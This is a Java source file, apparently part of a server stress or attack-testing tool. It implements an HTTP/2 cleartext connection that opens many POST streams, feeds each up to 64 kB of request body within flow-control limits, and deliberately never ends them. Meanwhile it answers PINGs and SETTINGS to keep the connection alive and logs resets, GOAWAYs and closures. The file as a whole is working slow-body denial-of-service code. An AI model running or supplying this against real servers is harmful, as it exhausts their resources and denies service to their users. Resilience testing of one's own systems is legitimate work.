package bystander;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicLong;

/** An HTTP/2 connection without TLS and with prior knowledge (RFC 9113), as bytes. It never ends a request. */
final class Http2Connection implements AutoCloseable {

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int WINDOW_UPDATE = 8;
    private static final int ACK = 1;
    private static final int END_HEADERS = 4;
    private static final int BODY_BYTES = 65_535; // the initial window of a stream
    private static final int FRAME_BYTES_MAX = 16_384;

    private final Connection connection;
    private final AtomicLong window = new AtomicLong(65_535);
    private volatile boolean closed;

    Http2Connection(Connection connection) {
        this.connection = connection;
    }

    /** Starts requests with a body of 64 kB each and leaves them without an end. Returns when the server closes. */
    void leaveBodies(Attacker attacker, String path, int streams) throws IOException {
        connection.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        write(SETTINGS, 0, 0, new byte[0]);
        attacker.once(1, writer -> {
            for (int i = 0; i < streams && !closed; i++) {
                leaveBody(attacker, path, 2 * i + 1);
            }
        });
        try {
            while (true) {
                receive(attacker);
            }
        } catch (IOException e) {
            attacker.outcomes().count("connection closed", attacker.isOver() ? 0 : 1);
        } finally {
            closed = true;
        }
    }

    private void leaveBody(Attacker attacker, String path, int stream) throws IOException {
        write(HEADERS, END_HEADERS, stream, headers(attacker.target(), path));
        byte[] part = new byte[FRAME_BYTES_MAX];
        for (int sent = 0; sent < BODY_BYTES && !closed; ) {
            int size = Math.min(FRAME_BYTES_MAX, BODY_BYTES - sent);
            if (window.get() < size) {
                Threads.sleep(5); // until the server has read more
                continue;
            }
            window.addAndGet(-size);
            write(DATA, 0, stream, size == part.length ? part : new byte[size]);
            sent += size;
        }
        attacker.outcomes().count("body left", closed ? 0 : 1);
    }

    /** Literal fields without indexing and without Huffman coding (RFC 7541 6.2.2). */
    private static byte[] headers(Target target, String path) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        field(block, ":method", "POST");
        field(block, ":scheme", "http");
        field(block, ":path", Target.API + path);
        field(block, ":authority", target.host() + ":" + target.port());
        field(block, "content-type", "application/json");
        return block.toByteArray();
    }

    private static void field(ByteArrayOutputStream block, String name, String value) {
        block.write(0);
        for (String text : new String[] {name, value}) {
            byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
            block.write(bytes.length);
            block.writeBytes(bytes);
        }
    }

    private synchronized void write(int type, int flags, int stream, byte[] payload) throws IOException {
        ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
        frame.put((byte) (payload.length >> 16)).putShort((short) payload.length);
        frame.put((byte) type).put((byte) flags).putInt(stream).put(payload);
        connection.write(frame.array());
    }

    private void receive(Attacker attacker) throws IOException {
        ByteBuffer head = ByteBuffer.wrap(connection.exactly(9));
        int length = (head.get() & 0xff) << 16 | head.getShort() & 0xffff;
        int type = head.get();
        int flags = head.get();
        int stream = head.getInt();
        byte[] payload = connection.exactly(length);
        switch (type) {
            case SETTINGS, PING -> {
                if ((flags & ACK) == 0) {
                    write(type, ACK, 0, type == PING ? payload : new byte[0]);
                }
            }
            case WINDOW_UPDATE -> {
                if (stream == 0) {
                    window.addAndGet(ByteBuffer.wrap(payload).getInt());
                }
            }
            case RST_STREAM -> attacker.outcomes().count("stream reset", 1);
            case GOAWAY -> attacker.outcomes().count("goaway " + ByteBuffer.wrap(payload).getInt(4), 1);
            case HEADERS -> attacker.outcomes().count("response", 1);
            default -> {
                // of no interest
            }
        }
    }

    @Override
    public void close() {
        closed = true;
        connection.close();
    }
}
